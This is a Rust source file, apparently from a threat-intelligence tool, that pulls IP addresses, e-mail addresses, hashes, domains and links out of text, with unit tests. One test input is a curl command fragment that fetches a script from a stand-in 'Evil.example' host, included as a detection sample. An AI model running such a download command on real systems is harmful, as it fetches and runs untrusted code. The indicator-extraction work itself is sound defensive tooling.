//! What analysts look for in any text: addresses, e-mail addresses, hashes, and names and links that lead somewhere. The
//! store lists them in a column and indicators are looked up by them, so both mean the same. Nothing here allocates.

use memchr::memchr3;
use std::net::{IpAddr, Ipv4Addr};

/// One of them, as the text spells it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Observable<'t> {
    /// IPv4 or IPv6, without port.
    Address(IpAddr),
    /// An e-mail address; its domain follows as a [`Observable::Name`].
    Mail(&'t str),
    /// 32, 40, 64, 96 or 128 hexadecimal digits with none beside them.
    Hash(&'t str),
    /// ASCII letters, digits, hyphens and underscores around a dot, the last label with a letter first: a domain, or a
    /// file's name, which looks the same.
    Name(&'t str),
    /// The text from a link's scheme on (`https://…`), to its end: where the link ends is the reader's to say. Its host
    /// follows as a name or address.
    Link(&'t str),
}

/// Fewest digits of a hash.
const SHORTEST_HASH: usize = 32;

/// Calls `visit` with everything found in `text`: hashes first, then the others in their order. Of names those are left
/// out whose last label does not pass `may_end`: most names are of files.
pub fn in_text<'t>(text: &'t str, may_end: impl Fn(&[u8]) -> bool, visit: &mut impl FnMut(Observable<'t>)) {
    hashes(text, visit);
    let bytes = text.as_bytes();
    let mut end = 0;
    while let Some(mark) = bytes.get(end..).and_then(|rest| memchr3(b'.', b':', b'@', rest)) {
        let (before, mark) = (end, end + mark);
        let signs = Signs::of(bytes, mark);
        end = signs.end;
        if signs.asks_for_nothing(bytes, &may_end) && !bytes.get(end..).is_some_and(|rest| rest.starts_with(b"//")) {
            continue;
        }
        let plain = bytes.get(before..mark).unwrap_or_default().iter().rev();
        let start = mark - plain.take_while(|byte| class(**byte) != Class::Other).count();
        // Parts are ASCII, so runs begin and end between letters. The shortest: `::1`.
        let Some(run) = text.get(start..end).filter(|run| run.len() >= 3) else { continue };
        let escaped = start > 0 && bytes.get(start - 1) == Some(&b'%');
        in_run(run, &signs, escaped, &may_end, visit);
        if run.ends_with(':') && bytes.get(end..).is_some_and(|rest| rest.starts_with(b"//")) {
            let scheme = run.trim_end_matches(':').rsplit([':', '@', '_']).next().unwrap_or_default();
            let scheme = scheme.trim_start_matches(|letter: char| !letter.is_ascii_alphabetic());
            if !scheme.is_empty() {
                text.get(end - scheme.len() - 1..).into_iter().for_each(|link| visit(Observable::Link(link)));
            }
        }
    }
}

/// What stands in a run of letters from its first sign on.
struct Signs {
    end: usize,
    dots: usize,
    colons: usize,
    /// `@` and `+`.
    others: usize,
    last_dot: usize,
}

impl Signs {
    fn of(bytes: &[u8], mark: usize) -> Self {
        let mut signs = Self { end: bytes.len(), dots: 0, colons: 0, others: 0, last_dot: mark };
        for (place, byte) in bytes.iter().enumerate().skip(mark) {
            match class(*byte) {
                Class::Letter => {}
                Class::Dot => {
                    signs.dots += 1;
                    signs.last_dot = place;
                }
                Class::Colon => signs.colons += 1,
                Class::Sign => signs.others += 1,
                Class::Other => {
                    signs.end = place;
                    break;
                }
            }
        }
        signs
    }

    /// Whether an address or e-mail address can be in the run.
    fn may_be_address(&self) -> bool {
        self.dots >= 3 || self.colons >= 2 || self.others > 0
    }

    /// Whether neither those nor a wanted name can be in it.
    fn asks_for_nothing(&self, bytes: &[u8], may_end: &impl Fn(&[u8]) -> bool) -> bool {
        let last = bytes.get(self.last_dot + 1..self.end).unwrap_or_default();
        let is_wanted = || last.first().is_some_and(u8::is_ascii_alphabetic) && may_end(last);
        // A hyphen or dot at the end is no part of a name.
        let is_simple = self.colons == 0 && last.last().is_some_and(u8::is_ascii_alphanumeric);
        !self.may_be_address() && (self.dots == 0 || is_simple && !is_wanted())
    }
}

/// `escaped`: a percent sign stands before the run, so that its first two letters may stand for another one.
fn in_run<'t>(
    run: &'t str,
    signs: &Signs,
    escaped: bool,
    may_end: &impl Fn(&[u8]) -> bool,
    visit: &mut impl FnMut(Observable<'t>),
) {
    if signs.may_be_address() {
        // Hashes have been found already, also those with something beside them.
        let whole = classify(run).filter(|found| !matches!(found, Observable::Hash(_)));
        whole.into_iter().for_each(&mut *visit);
        if signs.dots >= 3 && !matches!(whole, Some(Observable::Address(IpAddr::V4(_)))) {
            dotted(run, visit);
        }
    }
    if signs.dots == 0 {
        return;
    }
    run.split([':', '@', '+']).for_each(|piece| name(piece, may_end, visit));
    if let Some(rest) = run.get(2..).filter(|_| escaped) {
        if signs.dots >= 3 {
            dotted(rest, visit);
        }
        rest.split([':', '@', '+']).for_each(|piece| name(piece, may_end, visit));
    }
}

fn hashes<'t>(text: &'t str, visit: &mut impl FnMut(Observable<'t>)) {
    let bytes = text.as_bytes();
    // Wherever a hash lies, it covers one of every so many places.
    let mut at = SHORTEST_HASH - 1;
    while let Some(byte) = bytes.get(at) {
        if !byte.is_ascii_hexdigit() {
            at += SHORTEST_HASH;
            continue;
        }
        let (before, behind) = bytes.split_at(at);
        let start = at - before.iter().rev().take_while(|byte| byte.is_ascii_hexdigit()).count();
        let end = at + behind.iter().take_while(|byte| byte.is_ascii_hexdigit()).count();
        if let Some(digits) = text.get(start..end).filter(|digits| is_hash(digits)) {
            visit(Observable::Hash(digits));
        }
        at = end + SHORTEST_HASH;
    }
}

/// IPv4 addresses glued to other letters: `2F192.0.2.1`, `192.0.2.1-192.0.2.9`, `beacon_192.0.2.1.bin`.
fn dotted<'t>(run: &str, visit: &mut impl FnMut(Observable<'t>)) {
    for digits in run.split(|letter: char| !(letter.is_ascii_digit() || letter == '.')) {
        let digits = digits.trim_matches('.');
        if digits.len() >= 7
            && let Ok(address) = digits.parse::<Ipv4Addr>()
        {
            visit(Observable::Address(address.into()));
        }
    }
}

fn name<'t>(piece: &'t str, may_end: &impl Fn(&[u8]) -> bool, visit: &mut impl FnMut(Observable<'t>)) {
    let name = piece.trim_matches(['.', '-', '_']);
    let last = name.rsplit_once('.').map_or("", |(_, last)| last);
    if last.starts_with(|letter: char| letter.is_ascii_alphabetic()) && may_end(last.as_bytes()) {
        visit(Observable::Name(name));
    }
}

/// What a byte is to an address, e-mail address, name or hash.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Class {
    /// No part of one.
    Other,
    Letter,
    Dot,
    Colon,
    Sign,
}

const CLASSES: [Class; 256] = {
    let mut classes = [Class::Other; 256];
    let mut byte = 0;
    while byte < 128 {
        classes[byte] = match byte as u8 {
            b'.' => Class::Dot,
            b':' => Class::Colon,
            b'@' | b'+' => Class::Sign,
            b'-' | b'_' => Class::Letter,
            letter if letter.is_ascii_alphanumeric() => Class::Letter,
            _ => Class::Other,
        };
        byte += 1;
    }
    classes
};

fn class(byte: u8) -> Class {
    CLASSES.get(usize::from(byte)).copied().unwrap_or(Class::Other)
}

fn is_hash(run: &str) -> bool {
    matches!(run.len(), SHORTEST_HASH | 40 | 64 | 96 | 128) && run.bytes().all(|byte| byte.is_ascii_hexdigit())
}

/// What a run of such letters is as a whole: an address, e-mail address or hash.
pub fn classify(run: &str) -> Option<Observable<'_>> {
    let run = run.trim_matches(['.', '-', '_', '+', '@']);
    let bytes = run.as_bytes();
    if is_hash(run) {
        return Some(Observable::Hash(run));
    }
    if let Some((user, domain)) = run.split_once('@') {
        let named = domain.contains('.') && !domain.contains(['@', ':', '_']) && !user.is_empty();
        return named.then_some(Observable::Mail(run));
    }
    if !bytes.first().is_some_and(|byte| byte.is_ascii_hexdigit() || *byte == b':') {
        return None;
    }
    let colons = bytes.iter().filter(|byte| **byte == b':').count();
    let dots = bytes.iter().filter(|byte| **byte == b'.').count();
    let address: Option<IpAddr> = match (dots, colons) {
        (3, 0) => run.parse().ok(),
        // With a port, or a label in front (`IP:192.0.2.1`).
        (3, 1) => run.split(':').find_map(|part| part.parse().ok().filter(IpAddr::is_ipv4)),
        // Times of day have colons as well.
        (_, 2..) if colons >= 6 || run.contains("::") => {
            run.trim_end_matches(':').parse().ok().or_else(|| run.parse().ok())
        }
        _ => None,
    };
    // `::` alone is punctuation in program code.
    address.filter(|address| !(address.is_ipv6() && address.is_unspecified())).map(Observable::Address)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str) -> Vec<String> {
        let mut found = Vec::new();
        in_text(text, |_| true, &mut |one| {
            found.push(match one {
                Observable::Address(address) => format!("address {address}"),
                Observable::Mail(mail) => format!("mail {mail}"),
                Observable::Hash(hash) => format!("hash {hash}"),
                Observable::Name(name) => format!("name {name}"),
                Observable::Link(link) => format!("link {link}"),
            });
        });
        found
    }

    #[test]
    fn names_and_links_are_found_in_running_text() {
        assert_eq!(
            of("curl 'https://Evil.example:8443/x.sh' -o"),
            ["link https://Evil.example:8443/x.sh' -o", "name Evil.example", "name x.sh"]
        );
        assert_eq!(of("query[A] a.b_c.example. from 10.0.0.1"), ["name a.b_c.example", "address 10.0.0.1"]);
        assert_eq!(of("q=http%3A%2F%2Fevil.example%2F"), ["name 2Fevil.example", "name evil.example"]);
        assert_eq!(of("url:ftp://192.0.2.1/a"), ["link ftp://192.0.2.1/a", "address 192.0.2.1"]);
        assert_eq!(of("at 10:11:12.123 version 1.2.3-4 done."), Vec::<String>::new());
        assert_eq!(of("<An@mail.example>"), ["mail An@mail.example", "name mail.example"]);
    }

    #[test]
    fn names_with_other_endings_are_passed_over_and_nothing_else() {
        let text = "C:\\a.exe b.EXE: a.exe.example x-c.exe- d.exe:e.example 10.0.0.1.exe f.exe@g.exe h+i.exe_ sfx.exe.";
        let (mut all, mut some) = (Vec::new(), Vec::new());
        in_text(text, |_| true, &mut |one| all.push(one));
        in_text(text, |last| !last.eq_ignore_ascii_case(b"exe"), &mut |one| some.push(one));
        all.retain(|one| !matches!(one, Observable::Name(name) if name.to_ascii_lowercase().ends_with(".exe")));
        assert_eq!(some, all);
        assert_eq!(some.iter().filter(|one| matches!(one, Observable::Name(_))).count(), 2);
    }

    #[test]
    fn a_hash_is_found_wherever_it_lies() {
        let hash = "d41d8cd98f00b204e9800998ecf8427e";
        for before in 0..70 {
            for (beside, found) in [("=", true), ("g", true), ("ễ", true), ("0", false)] {
                let text = format!("{}{beside}{hash},{hash}", "x ".repeat(before / 2));
                assert_eq!(of(&text).len(), 1 + usize::from(found), "{text}");
            }
        }
        assert_eq!(of(&"a".repeat(1_000)), Vec::<String>::new());
    }
}
